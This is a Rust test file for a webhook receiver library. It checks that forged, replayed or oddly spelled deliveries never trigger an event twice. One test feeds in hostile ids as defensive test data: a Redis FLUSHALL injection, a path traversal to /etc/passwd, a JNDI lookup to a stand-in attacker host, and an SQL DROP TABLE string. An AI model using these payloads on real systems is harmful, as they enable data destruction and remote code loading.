//! DED: what counts as the same event. More is in `tests/it/claims.rs` and `tests/it/memory.rs`; DED-16 needs
//! a restart and is in `tests/parity/cases.rs`.

use std::time::Duration;

use hookgate::{
    EventId, Provider, Receiver, Secret, Tenants,
    providers::{GitHub, Linear, Shopify, StandardWebhooks, Stripe},
    receiver::OnReplay,
    scheme::{
        Part::{Body as Whole, Id, Lit},
        Scheme, header, json,
    },
    store::{EventKey, MemoryStore, Scope},
    testing::{SignedRequest, Signer},
};

use super::{BODY, Gate, WHSEC, families, mac, post, value, with, without};
use crate::support::{Effects, NOW, SECRET, ask, counting, github, request, stripe};

const SOON: Duration = Duration::ZERO;

/// DED-01: a flood of ids that nobody signed. The store does not hear of it, and keeps what it had.
#[tokio::test]
async fn a_flood_of_strangers_reaches_no_store() {
    let gate = Gate::new(Stripe::SCHEME);
    gate.handles("before", request(&stripe("evt_before"))).await;
    let calls = gate.bench.store.all_calls();
    for id in 0..20_000 {
        let forged = format!("t=1700000000,v1={id:064x}");
        let body = format!(r#"{{"id":"evt_{id}","type":"invoice.paid"}}"#);
        assert_eq!(gate.ask(post(&[("stripe-signature", forged.as_bytes())], body)).await.0, 401);
    }
    assert_eq!((gate.effects.runs(), gate.bench.store.all_calls()), (1, calls));
    assert_eq!(gate.deliver(&stripe("evt_before")).await, (200, "done", ""));
    gate.handles("one of their ids", request(&stripe("evt_7"))).await;
}

/// DED-02: a stranger names an id before its event comes. DED-15: what was refused is not remembered either.
#[tokio::test]
async fn what_is_refused_takes_nothing_and_leaves_nothing() {
    for family in families() {
        let (gate, signed) = (family.gate(), family.sign(BODY));
        gate.turns_away("DED-02", &family.unsigned(&signed)).await;
        let forged = family.with_digest(&signed, &[7; 32]);
        gate.turns_away("DED-15", &forged).await;
        gate.turns_away("DED-15", &forged).await;
        gate.handles(family.name(), request(&signed)).await;
        gate.turns_away("DED-15", &forged).await;
        assert_eq!(gate.deliver(&signed).await, (200, "done", ""));
    }
}

/// DED-03: a captured delivery under a fresh id, where the id is not signed. Acknowledged and not handled, or
/// refused where that is asked for.
#[tokio::test]
async fn a_fresh_unsigned_id_makes_no_event() {
    let linear = r#"{"type":"Issue","action":"create"}"#;
    for (scheme, name, body) in [
        (GitHub::SCHEME, "x-github-delivery", BODY),
        (Linear::SCHEME, "linear-delivery", linear),
        (Shopify::SCHEME, "x-shopify-webhook-id", BODY),
    ] {
        let strict = Gate::with(scheme, |builder| builder.secret(SECRET).on_replay(OnReplay::Refuse));
        for (gate, status) in [(Gate::new(scheme), 200), (strict, 409)] {
            let signer = Signer::for_scheme(scheme, SECRET).at(NOW).id("first").target("/hooks");
            let signed = signer.sign(body).expect("a delivery");
            gate.handles(scheme.name(), request(&signed)).await;
            for fresh in 0..20 {
                let captured = with(&signed, name, &format!("fresh-{fresh}"));
                assert_eq!(gate.deliver(&captured).await, (status, "replayed", ""), "{}", scheme.name());
            }
            assert_eq!(gate.deliver(&signed).await, (200, "done", ""), "a retry is not a replay");
            assert_eq!(gate.effects.runs(), 1);
        }
    }
}

/// DED-04: the id taken away. Where it is signed nothing verifies; where not, the content is the event.
#[tokio::test]
async fn without_an_id_nothing_is_handled_twice() {
    let gate = Gate::with(StandardWebhooks::SCHEME, |builder| builder.secret(WHSEC));
    let signer = Signer::new::<StandardWebhooks>(WHSEC).at(NOW).id("msg_1").target("/hooks");
    let signed = signer.sign("{}").expect("a delivery");
    gate.handles("signed", request(&signed)).await;
    assert_eq!(gate.turns_away("no id", &without(&signed, "webhook-id")).await, "id_missing");
    assert_eq!(gate.turns_away("an empty id", &with(&signed, "webhook-id", "")).await, "id_missing");
    for (scheme, name) in [(GitHub::SCHEME, "x-github-delivery"), (Shopify::SCHEME, "x-shopify-webhook-id")] {
        let gate = Gate::new(scheme);
        let signed = Signer::for_scheme(scheme, SECRET).at(NOW).target("/hooks").sign(BODY).expect("signed");
        let mut two = with(&signed, name, "one");
        two.headers_mut().push((name.to_owned(), "another".to_owned()));
        let bare = [without(&signed, name), with(&signed, name, ""), two];
        gate.handles(scheme.name(), request(&bare[0])).await;
        for bare in &bare {
            assert_eq!(gate.deliver(bare).await, (200, "done", ""), "{}", scheme.name());
        }
        assert_eq!(gate.deliver(&signed).await, (200, "replayed", ""), "with its id, too late");
        assert_eq!(gate.effects.runs(), 1);
    }
    // An event without any id, of a scheme that has none.
    let scheme = Scheme::hmac_sha256("none").signature(header("x-sig").hex()).signs(&[Whole]);
    let gate = Gate::new(scheme);
    let signed = Signer::for_scheme(scheme, SECRET).target("/hooks").sign(BODY).expect("signed");
    gate.handles("no place for ids", request(&signed)).await;
    assert_eq!(gate.deliver(&signed).await, (200, "done", ""));
}

/// DED-05: two families of headers, of which one is signed and the other is fresh.
#[tokio::test]
async fn two_names_of_a_header_must_agree() {
    let gate = Gate::with(StandardWebhooks::SCHEME, |builder| builder.secret(WHSEC));
    let signer = Signer::new::<StandardWebhooks>(WHSEC).at(NOW).id("msg_1").target("/hooks");
    let signed = signer.sign("{}").expect("a delivery");
    gate.handles("as it was signed", request(&signed)).await;
    let moved =
        |from: &str, to: &str, signed: &SignedRequest| with(&without(signed, from), to, value(signed, from));
    let svix = moved("webhook-id", "svix-id", &signed);
    assert_eq!(gate.deliver(&svix).await, (200, "done", ""), "the same id under its other name");
    for (name, fresh) in
        [("svix-id", "fresh"), ("svix-timestamp", "1700000001"), ("svix-signature", "v1,AAAA")]
    {
        let why = gate.turns_away(name, &with(&signed, name, fresh)).await;
        assert_eq!(why, "signature_repeated", "{name}");
    }
    let both = with(&svix, "webhook-id", "fresh");
    assert_eq!(gate.turns_away("the other way round", &both).await, "signature_repeated");
    assert_eq!(gate.effects.runs(), 1);
}

/// DED-07: every spelling of one signature is one event. The twin of an ECDSA signature is in
/// `tests/it/asymmetric.rs`.
#[tokio::test]
async fn spellings_of_a_signature_are_one_event() {
    for (scheme, name, body) in
        [(GitHub::SCHEME, "x-hub-signature-256", BODY), (super::OWN, "x-own-signature", BODY)]
    {
        let gate = Gate::new(scheme);
        let signed = Signer::for_scheme(scheme, SECRET).at(NOW).target("/hooks").sign(body).expect("signed");
        let right = value(&signed, name).to_owned();
        let (before, digits) = right.split_once('=').expect("a prefix");
        gate.handles(scheme.name(), request(&signed)).await;
        for at in 0..64 {
            let mut digits = digits.to_owned();
            digits[at..=at].make_ascii_uppercase();
            let spelled = with(&signed, name, &format!("{before}={digits}"));
            assert_eq!(gate.deliver(&spelled).await, (200, "done", ""), "{digits}");
        }
        assert_eq!(gate.effects.runs(), 1);
    }
    // Base64 for URLs may be padded or not; several signatures may come in any order and number.
    let url = Scheme::hmac_sha256("url").signature(header("x-sig").base64url()).signs(&[Whole]);
    let gate = Gate::new(url);
    let signed = Signer::for_scheme(url, SECRET).target("/hooks").sign(BODY).expect("signed");
    gate.handles("url", request(&signed)).await;
    let bare = value(&signed, "x-sig").trim_end_matches('=').to_owned();
    assert_eq!(gate.deliver(&with(&signed, "x-sig", &bare)).await, (200, "done", ""));
    let list = Scheme::hmac_sha256("list").signature(header("x-sig").list(',').base64()).signs(&[Whole]);
    let gate = Gate::new(list);
    let signed = Signer::for_scheme(list, SECRET).target("/hooks").sign(BODY).expect("signed");
    let (right, other) = (value(&signed, "x-sig").to_owned(), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
    gate.handles("list", request(&signed)).await;
    for spelled in [format!("{right},{other}"), format!("{other},{right}"), format!("{right},{right}")] {
        assert_eq!(gate.deliver(&with(&signed, "x-sig", &spelled)).await, (200, "done", ""));
    }
    assert_eq!(gate.effects.runs(), 1);
}

/// DED-08: ids are compared byte for byte, whatever they look like.
#[tokio::test]
async fn ids_that_look_alike_are_different_events() {
    let ids = [
        "evt_1",
        "EVT_1",
        "evt_1 ",
        " evt_1",
        "caf\u{e9}",
        "cafe\u{301}",
        "evt\u{200b}_1",
        "еvt_1",
        "1",
        "01",
    ];
    let gate = Gate::new(Stripe::SCHEME);
    for id in ids {
        gate.handles(id, request(&stripe(id))).await;
    }
    for id in ids {
        assert_eq!(gate.deliver(&stripe(id)).await, (200, "done", ""), "{id:?}");
    }
    // Escapes of JSON are another way of writing the same text.
    let body = r#"{"id":"\u0065vt_1","type":"invoice.paid"}"#;
    let escaped = Signer::new::<Stripe>(SECRET).at(NOW).target("/hooks").sign(body).expect("signed");
    assert_eq!(gate.deliver(&escaped).await, (200, "done", "mismatch"));
    assert_eq!(gate.effects.runs(), ids.len());
}

/// DED-09: ids that are long, or look like commands. What Redis makes of them is in `tests/redis/identity.rs`.
#[tokio::test]
async fn ids_are_names_whatever_is_in_them() {
    let long = "x".repeat(100_000);
    let longer = format!("{long}y");
    let hostile = [
        "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
        "{tag}",
        "}{",
        "\u{0}",
        "a\u{0}b",
        "../../etc/passwd",
        "${jndi:ldap://evil.tld}",
        "'; DROP TABLE events; --",
        "*",
        "\u{1b}[2J",
        &long,
        &longer,
    ];
    let gate = Gate::new(Stripe::SCHEME);
    let sign = |id: &str| {
        let body = serde_json::json!({"id": id, "type": "t"}).to_string();
        Signer::new::<Stripe>(SECRET).at(NOW).target("/hooks").sign(body).expect("a delivery")
    };
    for (before, id) in hostile.iter().enumerate() {
        assert_eq!(gate.effects.runs(), before);
        gate.handles(&id[..id.len().min(20)], request(&sign(id))).await;
        assert_eq!(gate.deliver(&sign(id)).await, (200, "done", ""));
        let key = EventKey::of_id(Scope::new("r", "p", None), EventId::new(id).expect("an id"));
        assert!(key.name().1.len() <= EventKey::LONGEST_ID, "what a store gets is short");
    }
    // In a header, and signed.
    let own = Scheme::hmac_sha256("own-id")
        .signature(header("x-sig").hex())
        .signs(&[Id, Lit("\n"), Whole])
        .id(header("x-id"));
    let gate = Gate::new(own);
    let sent = |id: &str| {
        let mac = mac(SECRET, format!("{id}\n{{}}"));
        post(&[("x-id", id.as_bytes()), ("x-sig", mac.as_bytes())], "{}")
    };
    for id in ["{tag}", &long, "a\tb"] {
        gate.handles("in a header", sent(id)).await;
        assert_eq!(gate.ask(sent(id)).await, (200, "done", ""));
    }
}

/// DED-10: names that could be read as two. No two lists of parts make one scope, wherever the marks are.
#[tokio::test]
async fn parts_of_a_key_do_not_run_together() {
    let mut scopes = std::collections::BTreeMap::new();
    let text = "a:b1:2c";
    let splits: Vec<usize> = (0..=text.len()).collect();
    for first in &splits {
        for second in splits.iter().filter(|second| *second >= first) {
            let parts = (&text[..*first], &text[*first..*second], &text[*second..]);
            for tenant in [None, Some(parts.2)] {
                let scope = Scope::new(parts.0, parts.1, tenant);
                let named = (parts.0, parts.1, tenant);
                let other = scopes.insert(scope.as_str().to_owned(), named);
                assert!(other.is_none_or(|other| other == named), "{other:?} and {named:?}");
            }
        }
    }
    assert!(scopes.len() > 50);
    // Through the gate: tenant `b:c` with id `d`, and tenant `b` with id `c:d`.
    let tenants = Tenants::new(
        |head| head.header("x-tenant").map(str::to_owned),
        |_| async { Ok::<_, std::io::Error>(Some(vec![Secret::from(SECRET)])) },
    );
    let gate = Gate::with(Stripe::SCHEME, |builder| builder.tenants(tenants));
    for (tenant, id) in [("b:c", "d"), ("b", "c:d"), ("b:", "c:d"), ("b:c:", "d")] {
        gate.handles(tenant, request(&with(&stripe(id), "x-tenant", tenant))).await;
    }
    for (tenant, id) in [("b:c", "d"), ("b", "c:d")] {
        let again = with(&stripe(id), "x-tenant", tenant);
        assert_eq!(gate.deliver(&again).await, (200, "done", ""), "{tenant} {id}");
    }
}

/// DED-13: neither is the number 1 the text "1", nor null the text "null".
#[tokio::test]
async fn an_id_is_a_text() {
    let gate = Gate::new(Stripe::SCHEME);
    let sign = |id: &str| {
        let body = format!(r#"{{"id":{id},"type":"t"}}"#);
        Signer::new::<Stripe>(SECRET).at(NOW).target("/hooks").sign(body).expect("a delivery")
    };
    for id in ["1", "null", "true", "[]", "{}", r#"{"$ne":null}"#] {
        gate.handles(id, request(&sign(&serde_json::json!(id).to_string()))).await;
        let calls = gate.bench.store.all_calls();
        assert_eq!(gate.deliver(&sign(id)).await, (422, "undecodable", "id_invalid"), "{id}");
        assert_eq!(gate.bench.store.all_calls(), calls);
    }
    let numbers = Scheme::hmac_sha256("numbers").signature(header("x-sig").hex()).signs(&[Whole]);
    let gate = Gate::new(numbers.id(hookgate::scheme::json_integer("/id")));
    let texts = Gate::new(numbers.id(json("/id")));
    for (gate, right, wrong) in [(gate, "1", "\"1\""), (texts, "\"1\"", "1")] {
        let sent = |id: &str| {
            let body = format!(r#"{{"id":{id}}}"#);
            post(&[("x-sig", mac(SECRET, body.clone()).as_bytes())], body)
        };
        gate.handles(right, sent(right)).await;
        assert_eq!(gate.ask(sent(wrong)).await, (422, "undecodable", "id_invalid"));
    }
}

/// DED-17: a second process that has a memory of its own does not see what the first one handled. One that
/// shares its store does; between processes that is Redis, in `tests/redis/identity.rs`.
#[tokio::test]
async fn a_memory_is_one_processes() {
    let effects = Effects::default();
    let node = |store: Option<&MemoryStore>| {
        let builder = Receiver::<GitHub>::builder().secret(SECRET);
        let builder = store.into_iter().fold(builder, |builder, store| builder.store(store.clone()));
        counting(&builder.build().expect("a receiver"), &effects, SOON)
    };
    let (one, two) = (node(None), node(None));
    for node in [&one, &two] {
        assert_eq!(ask(node, &github("guid-1", "{}")).await, (204, "handled"));
        assert_eq!(ask(node, &github("guid-1", "{}")).await, (200, "done"));
    }
    let store = MemoryStore::builder().build().expect("a store");
    let (one, two) = (node(Some(&store)), node(Some(&store)));
    assert_eq!(ask(&one, &github("guid-1", "{}")).await, (204, "handled"));
    assert_eq!(ask(&two, &github("guid-1", "{}")).await, (200, "done"));
    assert_eq!(effects.runs(), 3);
}
